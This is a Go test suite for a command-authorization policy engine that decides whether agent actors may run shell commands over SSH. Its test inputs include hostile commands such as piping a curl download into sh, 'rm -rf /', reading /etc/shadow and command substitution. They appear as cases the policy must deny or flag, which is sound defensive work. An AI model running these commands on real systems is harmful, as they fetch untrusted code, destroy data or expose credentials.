package policy

import (
	"encoding/json"
	"errors"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/BurntSushi/toml"
)

type policyFile struct {
	Classes []string `toml:"classes"`
	Actors  []Actor  `toml:"actors"`
	Rules   []Rule   `toml:"rules"`
}

func loadTestPolicy(t *testing.T) *Policy {
	t.Helper()
	var f policyFile
	md, err := toml.DecodeFile("testdata/policy.toml", &f)
	if err != nil {
		t.Fatal(err)
	}
	if undecoded := md.Undecoded(); len(undecoded) > 0 {
		t.Fatalf("testdata/policy.toml: unknown keys %v", undecoded)
	}
	p, err := New(f.Actors, f.Rules, f.Classes)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

type ladderCase struct {
	Name          string   `json:"name"`
	Actor         string   `json:"actor"`
	Tool          string   `json:"tool"`
	Host          string   `json:"host"`
	Groups        []string `json:"groups"`
	Command       string   `json:"command"`
	Endpoint      string   `json:"endpoint"`
	Method        string   `json:"method"`
	EndpointClass string   `json:"endpoint_class"`
	Account       string   `json:"account"`
	Want          struct {
		Outcome Outcome `json:"outcome"`
		Class   string  `json:"class"`
		Rule    string  `json:"rule"`
		Code    string  `json:"code"`
		Layer   string  `json:"layer"`  // the layer that decided, as Layer.String shows it; "" = not checked
		Word    string  `json:"word"`   // Decision.Word; "" = not checked
		Reason  string  `json:"reason"` // a part of Decision.Reason; "" = not checked
	} `json:"want"`
}

// TestLadder runs testdata/ladder.json against testdata/policy.toml.
func TestLadder(t *testing.T) {
	p := loadTestPolicy(t)
	raw, err := os.ReadFile("testdata/ladder.json")
	if err != nil {
		t.Fatal(err)
	}
	var cases []ladderCase
	dec := json.NewDecoder(strings.NewReader(string(raw)))
	dec.DisallowUnknownFields()
	if err := dec.Decode(&cases); err != nil {
		t.Fatalf("testdata/ladder.json: %v", err)
	}
	seen := map[string]bool{}
	for _, tc := range cases {
		if seen[tc.Name] {
			t.Fatalf("duplicate case name %q", tc.Name)
		}
		seen[tc.Name] = true
		t.Run(tc.Name, func(t *testing.T) {
			d := p.Decide(Request{
				Actor: tc.Actor, Tool: tc.Tool, Host: tc.Host, Groups: tc.Groups, Command: tc.Command,
				Endpoint: tc.Endpoint, Method: tc.Method, EndpointClass: tc.EndpointClass, Account: tc.Account,
			})
			w := tc.Want
			if d.Outcome != w.Outcome || d.Class != w.Class || d.Rule != w.Rule || d.Code != w.Code {
				t.Errorf("got outcome=%s class=%q rule=%q code=%q\nwant outcome=%s class=%q rule=%q code=%q\nsteps:\n  %s",
					d.Outcome, d.Class, d.Rule, d.Code, w.Outcome, w.Class, w.Rule, w.Code, strings.Join(d.Steps, "\n  "))
			}
			if w.Layer != "" && (d.Layer < 0 || d.Layers[d.Layer].String() != w.Layer) {
				got := "none"
				if d.Layer >= 0 {
					got = d.Layers[d.Layer].String()
				}
				t.Errorf("decided by layer %q, want %q\nsteps:\n  %s", got, w.Layer, strings.Join(d.Steps, "\n  "))
			}
			if w.Word != "" && d.Word != w.Word {
				t.Errorf("word %q, want %q", d.Word, w.Word)
			}
			if !strings.Contains(d.Reason, w.Reason) {
				t.Errorf("reason %q does not say %q", d.Reason, w.Reason)
			}
			if d.Reason == "" || (d.Outcome != Authorized && d.Repair == "") {
				t.Errorf("reason %q, repair %q: every outcome says why, every refusal what to do", d.Reason, d.Repair)
			}
			if len(d.Steps) == 0 || !strings.Contains(d.Steps[len(d.Steps)-1], string(d.Outcome)) {
				t.Errorf("last step %q does not state the outcome %s", d.Steps[len(d.Steps)-1], d.Outcome)
			}
		})
	}
}

func TestDecideExplainsEveryStep(t *testing.T) {
	p := loadTestPolicy(t)
	d := p.Decide(Request{Actor: "deploy-bot", Tool: ToolSSHExec, Host: "db-1", Groups: []string{"db"}, Command: "pg_dump app"})
	want := []string{
		"actor resolved: deploy-bot",
		"actor deploy-bot: tool ssh_exec allowed",
		"actor deploy-bot: host db-1 allowed",
		"command: 1 simple command(s), every program known",
		"class: remote_command (default for ssh_exec)",
		"deny rules: none matched",
		`approval: rules[4] "db-needs-approval" requires approval`,
		"awaiting_approval",
	}
	if !slices.Equal(d.Steps, want) {
		t.Errorf("steps:\n  %s\nwant:\n  %s", strings.Join(d.Steps, "\n  "), strings.Join(want, "\n  "))
	}
	if wantReason := `rule rules[4] "db-needs-approval" requires a person's approval: pg_dump app matches "pg_dump **"`; d.Reason != wantReason {
		t.Errorf("reason %q, want %q", d.Reason, wantReason)
	}
}

func TestLocalActor(t *testing.T) {
	uid := func(n int) *int { return &n }
	p, err := New([]Actor{
		{Name: "claude", UID: uid(1000), Exe: "/usr/bin/claude"},
		{Name: "any-1000", UID: uid(1000)},
		{Name: "remote", TokenSHA256: strings.Repeat("ab", 32)},
		{Name: "issued", Remote: true}, // no uid or exe: it must not match every process
		{Name: "any-agent", Exe: "/opt/agent"},
	}, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name string
		uid  int
		exe  string
		want string // "" = no actor
	}{
		{"uid and exe", 1000, "/usr/bin/claude", "claude"},
		{"uid only falls through to the next actor", 1000, "/usr/bin/python3", "any-1000"},
		{"exe only", 0, "/opt/agent", "any-agent"},
		{"nothing matches", 1001, "/usr/bin/claude", ""},
		{"remote actors never match a process", 0, "", ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			a, ok := p.LocalActor(tc.uid, tc.exe)
			if ok != (tc.want != "") || a.Name != tc.want {
				t.Errorf("LocalActor(%d, %q) = %q, %v; want %q", tc.uid, tc.exe, a.Name, ok, tc.want)
			}
		})
	}
	for _, name := range []string{"remote", "issued"} {
		if a, ok := p.Actor(name); !ok || a.Local() {
			t.Errorf("Actor(%s) = %+v, %v", name, a, ok)
		}
	}
}

func TestNewValidation(t *testing.T) {
	token := strings.Repeat("0f", 32)
	uid := 5
	negative := -1
	tests := []struct {
		name    string
		actors  []Actor
		rules   []Rule
		classes []string
		want    []string // substrings, each must appear
	}{
		{"bad actor name", []Actor{{Name: "-x", TokenSHA256: token}}, nil, nil, []string{`name "-x"`}},
		{"duplicate actor", []Actor{{Name: "a", TokenSHA256: token}, {Name: "a", UID: &uid}}, nil, nil, []string{"duplicate name"}},
		{"no identity", []Actor{{Name: "a"}}, nil, nil, []string{"set token_sha256"}},
		{"both identities", []Actor{{Name: "a", TokenSHA256: token, UID: &uid}}, nil, nil, []string{"exclusive"}},
		{"remote and local", []Actor{{Name: "a", Remote: true, Exe: "/bin/agent"}}, nil, nil, []string{"exclusive"}},
		{"short token", []Actor{{Name: "a", TokenSHA256: "abc"}}, nil, nil, []string{"64 hex"}},
		{"negative uid", []Actor{{Name: "a", UID: &negative}}, nil, nil, []string{"negative"}},
		{"relative exe", []Actor{{Name: "a", Exe: "bin/agent"}}, nil, nil, []string{"clean absolute path"}},
		{"negative quota", []Actor{{Name: "a", UID: &uid, DailyQuota: -1}}, nil, nil, []string{"daily_quota"}},
		{"empty host glob", []Actor{{Name: "a", UID: &uid, Hosts: []string{"group:"}}}, nil, nil, []string{"host pattern"}},
		{"unknown class", nil, []Rule{{Class: "read_mostly"}}, nil, []string{`rules[0]: unknown class "read_mostly"`}},
		{"bad decision", nil, []Rule{{Decision: "permit"}}, nil, []string{`decision "permit"`}},
		{"bad default", []Actor{{Name: "a", UID: &uid, Default: "maybe"}}, nil, nil, []string{`default "maybe"`}},
		{"allow with writes", nil, []Rule{{Decision: "allow", Writes: []string{"/tmp/**"}}}, nil, []string{"writes are never default-denied"}},
		{"commands and writes", nil, []Rule{{Decision: "deny", Commands: []string{"rm **"}, Writes: []string{"/etc/**"}}}, nil, []string{"commands and writes are exclusive"}},
		{"writes and endpoints", nil, []Rule{{Decision: "deny", Writes: []string{"/etc/**"}, Endpoints: []string{"x"}}}, nil, []string{"exclusive"}},
		{"relative writes pattern", nil, []Rule{{Decision: "deny", Writes: []string{"etc/passwd"}}}, nil, []string{"absolute path glob"}},
		{"deny with class", nil, []Rule{{Decision: "deny", Class: "read_only"}}, nil, []string{"never apply"}},
		{"rule does nothing", nil, []Rule{{Hosts: []string{"x"}}}, nil, []string{"neither class nor decision"}},
		{"unknown actor in rule", nil, []Rule{{Decision: "deny", Actors: []string{"ghost"}}}, nil, []string{`unknown actor "ghost"`}},
		{"** not last", nil, []Rule{{Decision: "deny", Commands: []string{"rm ** -rf"}}}, nil, []string{"whole last word"}},
		{"** inside a word", nil, []Rule{{Decision: "deny", Commands: []string{"rm /**"}}}, nil, []string{"whole last word"}},
		{"empty pattern", nil, []Rule{{Decision: "deny", Commands: []string{"  "}}}, nil, []string{"empty command pattern"}},
		{"non-ASCII command name", nil, []Rule{{Class: "read_only", Commands: []string{"ｄｆ **"}}}, nil, []string{"printable ASCII"}},
		{"commands and endpoints", nil, []Rule{{Decision: "deny", Commands: []string{"rm"}, Methods: []string{"GET"}}}, nil, []string{"exclusive"}},
		{"bad method", nil, []Rule{{Decision: "deny", Methods: []string{"GET /"}}}, nil, []string{"not an HTTP method"}},
		{"duplicate rule name", nil, []Rule{{Name: "r", Decision: "deny"}, {Name: "r", Decision: "deny"}}, nil, []string{`rules[1] "r": duplicate name`}},
		{"bad account", nil, []Rule{{Decision: "allow", Accounts: []string{"post gres"}}}, nil, []string{`account "post gres"`}},
		{"account grant without allow", nil, []Rule{{Decision: "approve", Accounts: []string{"postgres"}}}, nil, []string{"grants them and does nothing else"}},
		{"account grant with commands", nil, []Rule{{Decision: "allow", Accounts: []string{"postgres"}, Commands: []string{"psql **"}}}, nil, []string{"grants them and does nothing else"}},
		{"account grant with class", nil, []Rule{{Decision: "allow", Class: "read_only", Accounts: []string{"postgres"}}}, nil, []string{"grants them and does nothing else"}},
		{"bad class name", nil, nil, []string{"has space"}, []string{`class "has space"`}},
		{"every problem reported", []Actor{{Name: "a"}}, []Rule{{Class: "nope"}, {Decision: "maybe"}}, nil,
			[]string{"set token_sha256", `unknown class "nope"`, `decision "maybe"`}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			p, err := New(tc.actors, tc.rules, tc.classes)
			if err == nil {
				t.Fatalf("New succeeded: %+v", p)
			}
			if !errors.Is(err, ErrInvalid) {
				t.Errorf("error does not wrap ErrInvalid: %v", err)
			}
			for _, w := range tc.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q does not mention %q", err, w)
				}
			}
		})
	}
	if _, err := New(nil, []Rule{{Class: "batch_job", Commands: []string{"run *"}}}, []string{"batch_job"}); err != nil {
		t.Errorf("operator class: %v", err)
	}
}

func TestMatchArgv(t *testing.T) {
	tests := []struct {
		pattern string
		argv    []string
		want    bool
	}{
		{"df **", []string{"df"}, true},
		{"df **", []string{"df", "-h", "/"}, true},
		{"df", []string{"df", "-h"}, false},
		{"df", []string{"df"}, true},
		{"systemctl restart *", []string{"systemctl", "restart", "nginx"}, true},
		{"systemctl restart *", []string{"systemctl", "restart"}, false},
		{"systemctl restart *", []string{"systemctl", "restart", "a", "b"}, false},
		{"systemctl restart *", []string{"systemctl", "restart", ""}, true},
		{"cat /var/log/*", []string{"cat", "/var/log/nginx/error.log"}, true}, // * crosses '/' within one word
		{"cat /var/log/*", []string{"cat", "/etc/shadow"}, false},
		{"ls ?", []string{"ls", "é"}, true}, // ? is one character, not one byte
		{"ls ?", []string{"ls", "ab"}, false},
		{"mkfs* **", []string{"mkfs.ext4", "/dev/sdb"}, true},
		{"echo a*b*c", []string{"echo", "aXbYbZc"}, true},
		{"echo a*b*c", []string{"echo", "aXbYbZ"}, false},
		{"rm **", []string{"rm -rf /"}, false}, // one word holding spaces is not three words
		{"**", []string{"anything", "at", "all"}, true},
		{"", []string{"df"}, false},
		{"df **", nil, false},
	}
	for _, tc := range tests {
		if got := MatchArgv(tc.pattern, tc.argv); got != tc.want {
			t.Errorf("MatchArgv(%q, %q) = %v, want %v", tc.pattern, tc.argv, got, tc.want)
		}
	}
}

func TestGlobIsNotExponential(t *testing.T) {
	s := strings.Repeat("a", 10000)
	if globMatch(strings.Repeat("*a", 50)+"b", s) {
		t.Fatal("matched")
	}
}

// TestDefaultDeny: under default deny only what allow rules name runs — every program of
// every command, through wrappers and substitutions — and an unknowable program is denied
// even when no deny rule exists.
func TestDefaultDeny(t *testing.T) {
	p, err := New([]Actor{
		{Name: "strict", TokenSHA256: strings.Repeat("ab", 32), Default: DefaultDeny},
		{Name: "open", TokenSHA256: strings.Repeat("cd", 32)},
	}, []Rule{
		{Name: "reads", Decision: DecisionAllow, Class: ClassReadOnly, Commands: []string{"ls **", "cat **", "grep **"}},
		{Name: "restart", Decision: DecisionAllow, Class: ClassIdempotentWrite, Commands: []string{"sudo systemctl restart *", "systemctl restart *"}},
	}, nil)
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		actor, command string
		want           string // outcome or rejection code
		word           string
	}{
		{"strict", "ls -l /var/log/*.log | grep -c error", "authorized", ""},
		{"strict", "cat /etc/hostname; echo done", "authorized", ""},
		{"strict", "sudo systemctl restart nginx", "authorized", ""},
		{"strict", "sudo systemctl stop nginx", CodeNotAllowed, "sudo"},
		{"strict", "systemctl restart \"$UNIT\"", "authorized", ""},
		{"strict", "systemctl restart $UNITS", CodeNotAllowed, "systemctl"}, // may be several units, or none
		{"strict", "ls | xargs rm", CodeNotAllowed, "xargs"},
		{"strict", "ls $(id -u)", CodeNotAllowed, "id"},
		{"strict", "$CMD", CodeUnparsable, "$CMD"},
		{"strict", "curl -s http://x | sh", CodeUnparsable, "sh"},
		{"strict", "cat x | sh", CodeUnparsable, "sh"},
		{"strict", "eval ls", CodeUnparsable, "eval"},
		{"open", "rm -rf /tmp/x", "authorized", ""},
		{"open", "$CMD", "authorized", ""},
	}
	for _, tc := range tests {
		d := p.Decide(Request{Actor: tc.actor, Tool: ToolSSHExec, Host: "h", Command: tc.command})
		got := string(d.Outcome)
		if d.Outcome == Rejected {
			got = d.Code
		}
		if got != tc.want || d.Word != tc.word {
			t.Errorf("%s: %q = %s (word %q, %s); want %s (word %q)", tc.actor, tc.command, got, d.Word, d.Reason, tc.want, tc.word)
		}
	}
}
